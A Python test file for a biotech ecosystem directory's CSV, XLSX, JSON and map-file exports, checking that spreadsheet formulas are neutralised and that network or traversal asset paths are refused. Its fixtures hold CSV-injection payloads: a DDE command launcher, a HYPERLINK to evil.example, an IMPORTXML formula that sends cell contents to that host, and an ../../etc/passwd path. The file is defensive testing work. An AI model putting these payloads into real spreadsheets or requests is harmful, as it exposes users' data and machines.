"""Exports read back with pandas, openpyxl and json: exactly the filtered rows, provenance, inert formulas."""

import csv
import dataclasses
import io
import json
import re

import openpyxl
import pandas as pd
import pytest

from ecosystem import columns as C
from ecosystem.about import build_dictionary
from ecosystem.exports import (
    AssetError,
    Provenance,
    build_actor_csv,
    build_actor_json,
    build_actor_record,
    build_export_csv,
    build_export_xlsx,
    inline_static_assets,
    neutralise_cell,
)
from ecosystem.filters import Filters, filter_actors
from ecosystem.mapdownload import build_map_download
from ecosystem.mapfile import build_map, build_map_file
from ecosystem.maps import build_marker_data, build_view
from ecosystem.markers import read_marker_rows
from ecosystem.share import describe_filters
from tests.conftest import MINI, ROOT
from tests.urls import TYPE, page_url

LINK = page_url("https://example.org/eco", "directory", {TYPE: "biotech,pharma"})
PROVENANCE = Provenance(
    url=LINK,
    citation=f"Marseille immunology ecosystem, release 0.1.0 of 27 November 2026. {LINK}. Licence: CC BY 4.0.",
    licence="CC BY 4.0 (https://creativecommons.org/licenses/by/4.0/)",
    release="0.1.0 (2026-11-27)",
    data_as_of="2026-11-01",
)
HOSTILE = [
    '=HYPERLINK("https://evil.example","click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 4 91 00 00 00", "'+33 4 91 00 00 00"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Innate Pharma", "Innate Pharma"),
        ("a=b", "a=b"),
        ("-71.05", "-71.05"),  # a plain number stays a number
        ("+3", "+3"),
        ("", ""),
        (43.3, 43.3),
        (None, None),
    ],
)
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected


@pytest.fixture(scope="module")
def hostile(mini):
    """The mini dataset with formula-like names (tab and CR included: the loader strips them, other sources may not)."""
    actors = mini.actors.copy()
    actors.iloc[: len(HOSTILE), actors.columns.get_loc(C.NAME)] = HOSTILE
    actors.iloc[0, actors.columns.get_loc(C.NOTES)] = '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")'
    return dataclasses.replace(mini, actors=actors)


def test_csv_is_exactly_the_filtered_rows(mini):
    filters = Filters(type=frozenset({"biotech", "pharma"}))
    actors = filter_actors(mini, filters)
    table = pd.read_csv(
        io.BytesIO(build_export_csv(mini, actors)), dtype=str, keep_default_na=False, encoding="utf-8-sig"
    )
    assert list(table[C.ID]) == ["beta-bio", "delta-pharma"]
    beta = table.set_index(C.ID).loc["beta-bio"]
    assert beta[C.MODALITIES] == "monoclonal_antibody;multispecific_antibody"
    assert beta[C.MIB_MEMBER] == "True"
    assert (beta[C.SOURCES], beta[C.SOURCE_URLS]) == ("s2", "https://example.org/beta")  # ids for joins, URLs to read


def test_csv_formula_like_names_come_out_inert(hostile):
    # the csv module, as spreadsheets do, keeps a carriage return inside a quoted cell
    rows = list(csv.DictReader(io.StringIO(build_export_csv(hostile, hostile.actors).decode("utf-8-sig"), newline="")))
    names = [row[C.NAME] for row in rows]
    assert names[: len(HOSTILE)] == ["'" + name for name in HOSTILE]
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)
    assert rows[0][C.NOTES].startswith("'=IMPORTXML")


def _sheet(book, name) -> list[tuple]:
    return list(book[name].iter_rows(values_only=True))


@pytest.mark.parametrize(
    ("lang", "words"),
    [
        ("en", "Type of actor: Biotech or Pharmaceutical group"),
        ("fr", "Type d'acteur\u00a0: Biotech ou Groupe pharmaceutique"),
    ],
)
def test_xlsx_rows_filter_in_words_url_and_dictionary(mini, lang, words):
    filters = Filters(type=frozenset({"pharma", "biotech"}))
    actors = filter_actors(mini, filters)
    data = build_export_xlsx(
        mini, actors, build_dictionary(MINI), PROVENANCE, describe_filters(filters, mini, lang), lang
    )
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["actors", "about", "dictionary"]
    rows = _sheet(book, "actors")
    assert rows[0][0] == C.ID
    assert [row[0] for row in rows[1:]] == ["beta-bio", "delta-pharma"]
    about = [value for row in _sheet(book, "about") for value in row]
    assert words in about
    assert PROVENANCE.url in about
    assert PROVENANCE.licence in about
    dictionary = _sheet(book, "dictionary")
    assert [row[0] for row in dictionary[1:]] == list(mini.schema.columns("actors"))


def test_xlsx_formula_like_names_come_out_inert(hostile):
    data = build_export_xlsx(hostile, hostile.actors, build_dictionary(MINI), PROVENANCE, "", "en")
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    names = [row[1] for row in _sheet(book, "actors")[1:]]
    # XML reads a carriage return back as a line feed
    assert [name.replace("\n", "\r") for name in names[: len(HOSTILE)]] == ["'" + name for name in HOSTILE]


@pytest.mark.parametrize(
    ("filters", "lang", "expected"),
    [
        (Filters(), "en", "No filter: every actor"),
        (Filters(), "fr", "Aucun filtre : tous les acteurs"),
        (
            Filters(area=frozenset({"oncology"}), founded=(1990, 2020), mib=True),
            "en",
            "Therapeutic area: Cancers; Founded between 1990 and 2020; MIB members only",
        ),
        (
            Filters(q="anticorps", scope="elsewhere"),
            "fr",
            "Recherche\u00a0: «\u00a0anticorps\u00a0»; Où\u00a0: Ailleurs",
        ),
        (Filters(f2030=True, scope="marseille_area"), "en", "Where: Aix-Marseille area; France 2030 laureates only"),
    ],
)
def test_describe_filters(mini, filters, lang, expected):
    assert describe_filters(filters, mini, lang) == expected


# --- one actor's record ------------------------------------------------------------------------


def test_actor_json_has_the_record_relations_and_milestones(mini):
    record = json.loads(build_actor_json(build_actor_record(mini, "beta-bio", "en", PROVENANCE)))
    assert record["actor"][C.ID] == "beta-bio"
    assert record["actor"][C.MODALITIES] == ["monoclonal_antibody", "multispecific_antibody"]
    assert record["actor"][C.FOUNDED] == 1999
    others = sorted((r["other_id"], r[C.KIND]) for r in record["relations"])
    assert others == [("alpha-lab", "spin_off_of"), ("eta-fund", "funded_by"), ("mib", "founding_member_of")]
    assert [m["title_en"] for m in record["milestones"]] == ["Beta is founded", "Series B"]
    assert record["milestones"][1][C.AMOUNT_EUR] == 48_000_000
    assert record["url"] == PROVENANCE.url
    assert record["licence"].startswith("CC BY 4.0")
    # the pages its facts, links and events cite (s8: the biocluster's page, for its membership), described
    assert [(item[C.ID], item[C.TITLE]) for item in record["sources"]] == [
        ("s2", "Beta Thérapie raises its Series A"),
        ("s8", "Page s8"),
    ]
    assert (record["sources"][0][C.PUBLISHER], record["sources"][0][C.PUBLISHED]) == ("Example Daily", "2026-10-15")


def test_actor_json_sees_relations_from_the_other_side(mini):
    record = build_actor_record(mini, "delta-pharma", "en", PROVENANCE)
    (relation,) = record["relations"]
    assert (relation[C.SOURCE_ID], relation["other_id"]) == ("gamma-dx", "gamma-dx")
    assert relation["label"] != relation[C.KIND]  # the inverse label, 'Acquired ...'


def test_actor_csv_sections(mini):
    record = build_actor_record(mini, "beta-bio", "fr", PROVENANCE)
    table = pd.read_csv(io.BytesIO(build_actor_csv(record)), dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert list(table["section"]) == [
        *["actor", "relation", "relation", "relation", "milestone", "milestone"],
        *["source", "source"],
    ]
    assert table[table["section"] == "actor"][C.NAME].item() == "Beta Thérapie"
    assert set(table[table["section"] == "relation"][C.TARGET_ID]) == {"alpha-lab", "eta-fund", "mib"}
    assert list(table[table["section"] == "milestone"][C.DATE]) == ["1999", "2020-06-15"]


def test_actor_export_is_inert_and_unknown_id_is_none(hostile):
    actor = hostile.actors.iloc[0]
    record = build_actor_record(hostile, actor[C.ID], "en", PROVENANCE)
    table = pd.read_csv(io.BytesIO(build_actor_csv(record)), dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert table[C.NAME].iloc[0] == "'" + actor[C.NAME]
    assert build_actor_record(hostile, "no-such-actor", "en", PROVENANCE) is None


# --- the map as one file ----------------------------------------------------------------------------


def test_map_file_inlines_every_asset_and_keeps_legend_and_credits(real):
    actors = real.actors
    fmap = build_map(actors, real.taxonomy, "en", view=build_view(actors), legend_title="Types")
    page = build_map_file(fmap, title="Marseille immunology ecosystem", provenance=PROVENANCE)
    assert "app/static" not in page
    assert not re.search(r"<script[^>]+src=", page)
    assert not re.search(r"<link[^>]+stylesheet", page)
    for inside in ("L.markerClusterGroup", "L.EcosystemMarkers", "ecosystem-legend", "OpenStreetMap", "CC BY 4.0"):
        assert inside in page
    assert PROVENANCE.url in page
    rows = read_marker_rows(page)  # the markers travel as compact rows, built by the inlined markers.js
    assert sorted(row[0] for row in rows) == sorted(actors.dropna(subset=[C.LAT, C.LON])[C.ID])


def test_map_download_is_the_file_of_the_marker_rows(mini):
    data = build_marker_data(mini.actors, mini.taxonomy)
    view = build_view(mini.actors)
    page = build_map_download(
        data, mini.taxonomy, "en", view=view, legend_title="Types", title="Ecosystem map", provenance=PROVENANCE
    )
    assert "<title>Ecosystem map</title>" in page
    assert "app/static" not in page
    assert "L.control.scale({imperial: false})" in page  # kilometres, as in the app
    assert "L.control.scale()" not in page
    assert sorted(row[0] for row in read_marker_rows(page)) == sorted(mini.actors.dropna(subset=[C.LAT, C.LON])[C.ID])


def test_offering_the_map_download_does_not_load_folium():
    """folium loads when a file is built, not when a page imports the download."""
    import subprocess
    import sys

    code = "import sys, ecosystem.mapdownload; print('folium' in sys.modules)"
    shown = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, check=True)
    assert shown.stdout.split() == ["False"]


@pytest.mark.parametrize(
    "html",
    [
        '<script src="https://cdn.example.org/leaflet.js"></script>',
        '<link rel="stylesheet" href="//cdn.example.org/leaflet.css"/>',
    ],
)
def test_map_file_refuses_network_assets(html):
    with pytest.raises(AssetError):
        inline_static_assets(html)


def test_inliner_handles_any_static_script_stylesheet_and_image(tmp_path):
    (tmp_path / "lib" / "img").mkdir(parents=True)
    (tmp_path / "lib" / "layer.js").write_text("var s = '</script>'; window.LAYER = 1;", encoding="utf-8")
    (tmp_path / "lib" / "layer.css").write_text(".x{background:url(img/dot.png)}", encoding="utf-8")
    (tmp_path / "lib" / "img" / "dot.png").write_bytes(b"\x89PNG fake")
    page = (
        '<script src="/app/static/lib/layer.js"></script>'
        '<link rel="stylesheet" href="http://127.0.0.1:8501/app/static/lib/layer.css">'
        '<img src="app/static/lib/img/dot.png">'
    )
    result = inline_static_assets(page, tmp_path)
    assert "app/static" not in result
    assert "window.LAYER = 1" in result
    assert "<\\/script>" in result
    assert result.count("data:image/png;base64,") == 2
    with pytest.raises(AssetError):
        inline_static_assets('<script src="/app/static/lib/missing.js"></script>', tmp_path)
    with pytest.raises(AssetError):
        inline_static_assets('<script src="/app/static/../../etc/passwd"></script>', tmp_path)


@pytest.mark.parametrize(
    ("lang", "type_label", "modalities_label"),
    [
        ("en", "Biotech", "Monoclonal antibodies; Multispecific antibodies"),
        ("fr", "Biotech", "Anticorps monoclonaux; Anticorps multispécifiques"),
    ],
)
def test_csv_keeps_ids_with_labels_beside_them(mini, lang, type_label, modalities_label):
    table = pd.read_csv(
        io.BytesIO(build_export_csv(mini, mini.actors, lang)), dtype=str, keep_default_na=False, encoding="utf-8-sig"
    )
    columns = list(table.columns)
    assert columns.index("type_label") == columns.index(C.TYPE) + 1
    assert columns.index("modalities_label") == columns.index(C.MODALITIES) + 1
    beta = table.set_index(C.ID).loc["beta-bio"]
    assert beta[C.TYPE] == "biotech"
    assert beta["type_label"] == type_label
    assert beta[C.MODALITIES] == "monoclonal_antibody;multispecific_antibody"
    assert beta["modalities_label"] == modalities_label
    assert table.set_index(C.ID).loc["eta-fund", "stage_label"] == ""


@pytest.mark.parametrize(("lang", "status"), [("en", "Acquired"), ("fr", "Racheté")])
def test_xlsx_labels_dictionary_and_dates_in_the_readers_language(mini, lang, status):
    data = build_export_xlsx(mini, mini.actors, build_dictionary(MINI, lang), PROVENANCE, "", lang)
    book = openpyxl.load_workbook(io.BytesIO(data))
    rows = _sheet(book, "actors")
    header = rows[0]
    gamma = dict(zip(header, next(row for row in rows if row[0] == "gamma-dx"), strict=True))
    assert gamma["status_label"] == status
    about = [str(value) for row in _sheet(book, "about") for value in row]
    assert not any(re.search(r"\d{4}-\d{2}-\d{2}", value) for value in about if "://" not in value)
    dictionary = _sheet(book, "dictionary")
    french = {"Colonne", "Ce qu'elle contient"}
    assert (lang == "fr") == bool(french & set(dictionary[0]))
